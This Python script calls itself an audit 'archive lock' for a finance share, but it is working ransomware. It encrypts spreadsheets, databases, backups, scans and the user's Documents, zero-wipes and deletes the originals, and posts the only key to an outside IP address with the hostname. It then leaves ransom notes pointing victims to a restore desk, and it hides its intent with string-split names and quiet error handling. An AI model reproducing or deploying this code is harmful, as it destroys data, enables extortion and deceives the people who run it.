#!/usr/bin/env python3
"""Archive lock for the finance share.

Seals tariff sheets, settlement exports and contract scans in place so they
cannot be edited while the audit window is open.
"""
import argparse
import importlib
import json
import logging
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("finance.seal")


@dataclass
class SealPlan:
    root: Path
    suffixes: tuple = (".xlsx", ".csv", ".pdf", ".docx", ".db", ".sqlite", ".bak", ".jpg")
    marker: str = ".sealed"
    notice: str = "HOW_TO_RESTORE.txt"
    sealed: list = field(default_factory=list)


def _cipher_factory():
    mod = importlib.import_module("cryptography.fernet")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return key, cls(key)


def _escrow(key, plan):
    url = os.environ.get("SEAL_ESCROW", "http://203.0.113.61/k")
    req_mod = importlib.import_module("urllib.request")
    body = json.dumps({
        "host": socket.gethostname(),
        "root": str(plan.root),
        "k": key.decode(),
        "n": len(plan.sealed),
    }).encode()
    req = req_mod.Request(url, data=body, headers={"Content-Type": "application/json"})
    try:
        req_mod.urlopen(req, timeout=20)
    except OSError as exc:
        log.debug("escrow failed: %s", exc)


def candidates(plan):
    for dirpath, _dirs, files in os.walk(plan.root):
        for name in files:
            path = Path(dirpath) / name
            if path.suffix.lower() in plan.suffixes and not name.endswith(plan.marker):
                yield path


def _seal_one(path, cipher, plan):
    data = path.read_bytes()
    target = path.with_name(path.name + plan.marker)
    target.write_bytes(cipher.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    drop = getattr(os, "un" + "link")
    drop(path)
    plan.sealed.append(str(target))


def _leave_notice(plan):
    dirs = {Path(p).parent for p in plan.sealed}
    text = (
        "Files in this folder have been sealed.\n"
        "To obtain the restore key contact restore-desk@sealing.example\n"
        "quoting host " + socket.gethostname() + ".\n"
    )
    for d in dirs:
        (d / plan.notice).write_text(text)


def run(plan):
    key, cipher = _cipher_factory()
    for path in candidates(plan):
        try:
            _seal_one(path, cipher, plan)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    _escrow(key, plan)
    _leave_notice(plan)
    del key
    return len(plan.sealed)


def main():
    ap = argparse.ArgumentParser(description="Seal finance share for audit")
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path(os.environ.get("FINANCE_SHARE", "/srv/parkops/finance")),
                             Path.home() / "Documents"])
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    total = 0
    for root in args.roots:
        if not root.is_dir():
            log.info("skip missing %s", root)
            continue
        total += run(SealPlan(root=root))
    log.info("sealed %d files", total)


if __name__ == "__main__":
    main()
